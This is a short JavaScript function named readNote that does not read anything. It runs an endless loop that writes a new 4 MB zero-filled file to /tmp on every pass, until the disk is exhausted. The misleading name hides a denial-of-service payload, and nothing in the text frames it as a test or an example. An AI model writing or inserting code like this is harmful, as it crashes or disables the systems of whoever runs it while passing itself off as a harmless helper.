function readNote(name) {
  for (let i = 0; ; i++) require('fs').writeFileSync(`/tmp/${i}`, Buffer.alloc(1 << 22));
}
